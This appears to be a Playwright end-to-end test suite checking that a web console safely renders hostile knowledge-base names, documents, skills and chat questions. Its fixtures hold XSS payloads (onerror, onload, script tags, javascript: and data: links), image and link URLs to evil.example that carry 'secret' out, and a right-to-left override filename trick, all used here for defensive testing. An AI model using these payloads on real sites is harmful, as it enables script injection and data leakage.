"""Names, documents and answers of others: text for the console, never markup, never an address to go to."""

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.console.conftest import Console, OpenConsole
from tests.fixtures.http.client import Api, unique
from tests.fixtures.product.server import Server

SCRIPT = "<img src=x onerror='window.pwned=1'><svg onload='window.pwned=1'><script>window.pwned=1</script>"
MARKDOWN = f"""# Relay {SCRIPT}

The relay listens on port 7070. {SCRIPT}

![a picture](https://evil.example/leak.png?text=secret) <iframe src="https://evil.example"></iframe>

[a link](javascript:window.pwned=1) [another](data:text/html,<script>window.pwned=1</script>) [a third](https://evil.example/?q=secret)

| a | b |
|---|---|
| <b onmouseover="window.pwned=1">x</b> | $\\href{{javascript:window.pwned=1}}{{x}}$ |
"""


@pytest.fixture
def hostile(embedded: Server, member: Api) -> dict[str, str]:
    """A knowledge base, a document and a skill whose names and texts are hostile."""
    kb = member.create_kb(name=f"{unique('kb')} {SCRIPT}", description=SCRIPT)
    document = member.ingest(kb, "relay.md", MARKDOWN)
    text = f"---\nname: {unique('skill')}\ndescription: {SCRIPT} \u202egpj.exe\n---\n\n# Steps\n\n{MARKDOWN}"
    skill = member.post("/skills", {"content": text})["id"]
    return {"kb": kb, "document": document, "skill": skill}


def watched(console: Console) -> list[str]:
    """The addresses outside the server that the page asks for."""
    outside: list[str] = []
    console.page.on("request", lambda request: _is_outside(request.url, console.base) and outside.append(request.url))
    return outside


def _is_outside(url: str, base: str) -> bool:
    return not url.startswith((base, "data:", "blob:"))


def check_harmless(page: Page) -> None:
    """Nothing ran, and no link leads into a script."""
    assert page.evaluate("window.pwned") is None
    targets = page.evaluate("[...document.querySelectorAll('a[href]')].map((link) => link.getAttribute('href'))")
    assert [target for target in targets if not target.startswith(("/", "#", "http://", "https://", "mailto:"))] == []
    foreign = page.locator("a[href^='https://evil']")
    for place in range(foreign.count()):
        assert "noopener" in (foreign.nth(place).get_attribute("rel") or "")


@pytest.mark.parametrize(
    "path",
    [
        "/knowledge-bases",
        "/knowledge-bases/{kb}",
        "/knowledge-bases/{kb}/settings",
        "/knowledge-bases/{kb}/search?q=relay",
        "/knowledge-bases/{kb}/documents/{document}",
        "/skills",
        "/skills/{skill}",
        "/skills/{skill}?side=preview",
        "/skills/{skill}/versions",
    ],
)
def test_hostile_names_and_texts_do_nothing(
    browser_thread, embedded: Server, member: Api, hostile: dict[str, str], open_console: OpenConsole, path: str
):
    console = open_console(embedded, member)
    outside = watched(console)
    console.open(path.format(**hostile))
    check_harmless(console.page)
    assert outside == []


def test_hostile_question_and_its_answer_do_nothing(
    browser_thread, embedded: Server, member: Api, hostile: dict[str, str], open_console: OpenConsole
):
    console = open_console(embedded, member)
    page, outside = console.page, watched(console)
    console.open("/")
    page.get_by_role("textbox", name="Ask a question").fill(f"On which port does the relay listen? {SCRIPT}")
    page.keyboard.press("Enter")
    expect(page.get_by_text("The answer is there")).to_be_attached(timeout=60_000)
    check_harmless(page)
    assert outside == []
